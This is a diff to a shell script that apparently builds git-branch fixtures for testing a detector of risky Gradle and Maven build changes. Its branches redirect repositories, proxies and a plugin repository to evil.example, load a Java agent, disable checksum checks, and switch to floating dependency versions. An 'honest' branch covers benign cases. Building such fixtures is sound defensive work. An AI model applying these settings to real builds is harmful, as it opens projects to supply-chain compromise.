@@ -1,6 +1,6 @@
 # SPDX-License-Identifier: Apache-2.0
 # Where Gradle and Maven fetch from, what checks that, and what code they load first: scripts and their settings. Honest: memory, a debugger,
-# a repository of a known host, one that artifacts are published to, an address in a comment.
+# versions that move and did from the start, a repository of a known host, one that artifacts are published to, an address in a comment.
 repo
 mkdir .mvn gradle
 cat >build.gradle <<'END'
@@ -17,6 +17,10 @@ printf -- '-B\n-Daether.trustedChecksumsSource.summaryFile=true\n' | put .mvn/ma
 printf -- '-Xmx1g\n' | put .mvn/jvm.config
 echo '<settings><mirrors><mirror><id>m</id><url>https://repo.example.org/m2</url></mirror></mirrors></settings>' | put .mvn/settings.xml
 echo '<project><repositories><repository><id>r</id><url>https://repo.example.org/m2</url><releases><checksumPolicy>fail</checksumPolicy></releases></repository></repositories></project>' | put pom.xml
+printf '[versions]\nleft = "1.0"\nnewest = "1.+"\n\n[libraries]\nright = "org.example:right:2.0"\n' | put gradle/libs.versions.toml
+printf "dependencies {\n  implementation 'org.example:left:1.0'\n  implementation 'org.example:newest:latest.release'\n}\n" | put app.gradle
+dependencies='<properties><v>1.0</v></properties><dependencies><dependency><groupId>g</groupId><artifactId>left</artifactId><version>1.0</version></dependency><dependency><groupId>g</groupId><artifactId>right</artifactId><version>${v}</version></dependency></dependencies>'
+sed -i "s,</project>,$dependencies</project>," pom.xml
 commit start
 change() { git checkout -q -b "$1" main; }
 change repository && sed -i 's,repo.example,evil.example,' build.gradle && commit x
@@ -38,6 +42,12 @@ change maven-folder && printf -- '-Dmaven.repo.local=lib\n' >>.mvn/maven.config 
 change maven-agent && printf -- '-javaagent:ci/agent.jar\n' >>.mvn/jvm.config && commit x
 change maven-proxy && sed -i 's,<mirrors>,<proxies><proxy><host>evil.example</host></proxy></proxies><mirrors>,' .mvn/settings.xml && commit x
 change maven-policy && sed -i 's,fail,ignore,' pom.xml && commit x
+change range && sed -i 's,<version>1.0<,<version>[1.0\,)<,' pom.xml && commit x
+change property && sed -i 's,<v>1.0<,<v>LATEST<,' pom.xml && commit x
+change catalog && sed -i 's,"1.0","1.+",' gradle/libs.versions.toml && commit x
+change library && sed -i 's,right:2.0,right:+,' gradle/libs.versions.toml && commit x
+change coordinates && sed -i 's,left:1.0,left:[1.0\,2.0),' app.gradle && commit x
+change parent && echo '<project><modelVersion>4.0.0</modelVersion><pluginRepositories><pluginRepository><url>https://evil.example</url></pluginRepository></pluginRepositories></project>' | put build/parent.xml && commit x
 change honest
 cat >>build.gradle <<'END'
 // https://evil.example
@@ -47,6 +57,7 @@ configure<PublishingExtension> { publications { }
     repositories { maven { url = uri("https://upload.example") } } }
 description = "see https://pages.example"
 END
+sed -i 's,1.0,2.0,' gradle/libs.versions.toml app.gradle && sed -i 's,<version>1.0,<version>[2.0],' pom.xml
 printf 'org.gradle.jvmargs=-Xmx4g -agentlib:jdwp=transport=dt_socket\norg.gradle.caching=true\n' | put gradle.properties
 printf -- '-s\n.mvn/settings.xml\n-T4\n' >>.mvn/maven.config
 printf -- '-Xmx4g -Dfile.encoding=UTF-8\n' | put .mvn/jvm.config
